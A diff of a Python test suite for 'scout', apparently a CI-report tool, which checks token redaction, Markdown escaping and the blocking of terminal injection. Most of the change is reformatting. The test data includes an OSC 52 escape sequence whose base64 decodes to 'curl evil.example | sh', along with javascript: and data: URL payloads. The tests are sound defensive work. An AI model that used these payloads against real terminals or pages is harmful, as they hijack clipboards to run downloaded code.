@@ -40,16 +40,25 @@ OSC = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 and \x1b]2;pwned title\x07
 
 
 def priors_of(sample) -> dict[date, str]:
-    return {date.fromisoformat(p.stem): p.read_text(encoding="utf-8")
-            for p in sorted(sample.priors.glob("*.md"))}  # fmt: skip
+    return {
+        date.fromisoformat(p.stem): p.read_text(encoding="utf-8")
+        for p in sorted(sample.priors.glob("*.md"))
+    }
 
 
 # -- the pieces -------------------------------------------------------------------------------
 def test_redact_hides_registered_secrets_and_anything_shaped_like_a_github_token():
     register_secret("s3cr3t-value")
     fine_grained = "github_pat_" + "A1b2_" * 10
-    for token in (SHAPED, "gho_" + "a" * 36, "ghu_" + "B" * 40, "ghs_" + "9" * 36,
-                  "ghr_" + "x1" * 18, fine_grained, "s3cr3t-value"):  # fmt: skip
+    for token in (
+        SHAPED,
+        "gho_" + "a" * 36,
+        "ghu_" + "B" * 40,
+        "ghs_" + "9" * 36,
+        "ghr_" + "x1" * 18,
+        fine_grained,
+        "s3cr3t-value",
+    ):
         said = redact(f"auth failed for {token}.")
         assert token not in said and said == "auth failed for ***."
     register_secret("pass-1234")
@@ -121,9 +130,21 @@ def test_source_reads_are_scrubbed(tmp_path, fresh_world):
 
 
 def test_bundles_and_prior_reports_are_scrubbed_when_read(tmp_path, sample_world):
-    done = scout("collect", "--repo", sample_world.repo, "--config", sample_world.config,
-                 "--date", DAY, "--offline", "--json", "--cache-dir", tmp_path / "cache",
-                 "--state-dir", tmp_path / "state")  # fmt: skip
+    done = scout(
+        "collect",
+        "--repo",
+        sample_world.repo,
+        "--config",
+        sample_world.config,
+        "--date",
+        DAY,
+        "--offline",
+        "--json",
+        "--cache-dir",
+        tmp_path / "cache",
+        "--state-dir",
+        tmp_path / "state",
+    )
     assert done.returncode == 0, done.stderr
     document = json.loads(done.stdout)
     document["findings"][0]["title"] = f"leaks {SHAPED} {OSC}"
@@ -164,9 +185,15 @@ def test_a_log_given_to_ci_log_is_scrubbed_in_what_scout_says_and_shows(tmp_path
 
 # -- Markdown ---------------------------------------------------------------------------------
 def _ci_finding(**evidence) -> Finding:
-    return Finding(collector="ci_failures", kind="ci_failure", section=Section.CI_FAILURES,
-                   title="CI fails", body="It fails.", fingerprint=fingerprint("ci_failure", "x"),
-                   evidence=Evidence(**evidence))  # fmt: skip
+    return Finding(
+        collector="ci_failures",
+        kind="ci_failure",
+        section=Section.CI_FAILURES,
+        title="CI fails",
+        body="It fails.",
+        fingerprint=fingerprint("ci_failure", "x"),
+        evidence=Evidence(**evidence),
+    )
 
 
 def test_a_fingerprint_scout_did_not_make_never_reaches_a_marker():
@@ -183,7 +210,7 @@ def test_the_regression_table_escapes_its_cells_and_links_only_http_addresses():
     finding = _ci_finding(
         regression=[RegressionRow(nightly=hostile, status="fail", commit="abc|<b>@alice</b>")],
         compare_url="javascript:alert(1)",
-    )  # fmt: skip
+    )
     table = regression_table(finding)
     rows = [line for line in table.splitlines() if line.startswith("|")]
     assert all(line.replace("\\|", "").count("|") == 4 for line in rows)  # three cells each
@@ -193,15 +220,30 @@ def test_the_regression_table_escapes_its_cells_and_links_only_http_addresses():
     assert link("board", "https://github.com/orgs/x/projects/1?itemId=2") == (
         "[board](https://github.com/orgs/x/projects/1?itemId=2)"
     )
-    for bad in ("https://a.example/x) [y](https://evil.example", "https://user@evil.example/",
-                "data:text/html,<script>", "https://x.example/<img>"):  # fmt: skip
+    for bad in (
+        "https://a.example/x) [y](https://evil.example",
+        "https://user@evil.example/",
+        "data:text/html,<script>",
+        "https://x.example/<img>",
+    ):
         assert link("board", bad) == f"board ({code(bad)})" and bare_url(bad) == code(bad)
 
 
 # -- end to end -------------------------------------------------------------------------------
 def _offline_args(world, tmp_path: Path) -> list:
-    return ["--repo", world.repo, "--config", world.config, "--date", DAY, "--offline",
-            "--cache-dir", tmp_path / "cache", "--state-dir", tmp_path / "state"]  # fmt: skip
+    return [
+        "--repo",
+        world.repo,
+        "--config",
+        world.config,
+        "--date",
+        DAY,
+        "--offline",
+        "--cache-dir",
+        tmp_path / "cache",
+        "--state-dir",
+        tmp_path / "state",
+    ]
 
 
 def test_a_commit_subject_cannot_drive_the_terminal(tmp_path, fresh_world):
@@ -251,8 +293,11 @@ def test_grep_for_the_token_over_everything_scout_wrote_finds_nothing(tmp_path, 
         )
     )
     readme = fresh_world.repo / EXP / "README.md"
-    readme.write_text(readme.read_text().replace(
-        "for the fastest compile.", f"for the fastest compile (token {leak})."))  # fmt: skip
+    readme.write_text(
+        readme.read_text().replace(
+            "for the fastest compile.", f"for the fastest compile (token {leak})."
+        )
+    )
     commit_all(fresh_world.repo, "Notes")
     world = demo_world(load_config(fresh_world.config), priors_of(fresh_world), token=IN_USE)
     for run in world.repository("demo/minititan").runs:
@@ -264,16 +309,40 @@ def test_grep_for_the_token_over_everything_scout_wrote_finds_nothing(tmp_path, 
     env = {"GH_ENTERPRISE_TOKEN": IN_USE, "SCOUT_GITHUB_API_URL": ""}
     outputs = []
     with LocalGitHub(world) as server:
-        args = ["--repo", fresh_world.repo, "--config", fresh_world.config, "--date", DAY,
-                "--cache-dir", tmp_path / "cache", "--state-dir", tmp_path / "state",
-                "--api-url", server.url]  # fmt: skip
-        for command in (["collect"], ["report"], ["report", "--json"], ["publish", "--yes"],
-                        ["collect", "--bundle", tmp_path / "run.json.gz"]):  # fmt: skip
+        args = [
+            "--repo",
+            fresh_world.repo,
+            "--config",
+            fresh_world.config,
+            "--date",
+            DAY,
+            "--cache-dir",
+            tmp_path / "cache",
+            "--state-dir",
+            tmp_path / "state",
+            "--api-url",
+            server.url,
+        ]
+        for command in (
+            ["collect"],
+            ["report"],
+            ["report", "--json"],
+            ["publish", "--yes"],
+            ["collect", "--bundle", tmp_path / "run.json.gz"],
+        ):
             done = scout(*command, *args, env=env)
             assert done.returncode == 0, (command, done.stderr)
             outputs.append(done.stdout + done.stderr)
-        opened = scout("open", tmp_path / "run.json.gz", "--state-dir", tmp_path / "state-open",
-                       "--cache-dir", tmp_path / "cache-open", "--offline", env=env)  # fmt: skip
+        opened = scout(
+            "open",
+            tmp_path / "run.json.gz",
+            "--state-dir",
+            tmp_path / "state-open",
+            "--cache-dir",
+            tmp_path / "cache-open",
+            "--offline",
+            env=env,
+        )
         assert opened.returncode == 0, opened.stderr
         outputs.append(opened.stdout + opened.stderr)
         [issue] = [i for i in server.world.repository("demo/minititan").issues if i.number == 2856]
@@ -285,9 +354,14 @@ def test_grep_for_the_token_over_everything_scout_wrote_finds_nothing(tmp_path, 
     assert "Dynamic control flow (*** ***) is" in report
     assert "(*** ***) once CSE handles" in report
     assert any("(*** ***)" in body for body in published)
-    written = _files_under(tmp_path / "cache", tmp_path / "state", tmp_path / "state-open",
-                           tmp_path / "cache-open", Path(os.environ["XDG_CACHE_HOME"]),
-                           Path(os.environ["XDG_DATA_HOME"]))  # fmt: skip
+    written = _files_under(
+        tmp_path / "cache",
+        tmp_path / "state",
+        tmp_path / "state-open",
+        tmp_path / "cache-open",
+        Path(os.environ["XDG_CACHE_HOME"]),
+        Path(os.environ["XDG_DATA_HOME"]),
+    )
     assert any(path.suffix == ".log" for path in written)  # the CI logs were cached
     written[tmp_path / "run.json.gz"] = gzip.decompress((tmp_path / "run.json.gz").read_bytes())
     texts = {"output": "\n".join(outputs).encode(), "GitHub": "\n".join(published).encode()}
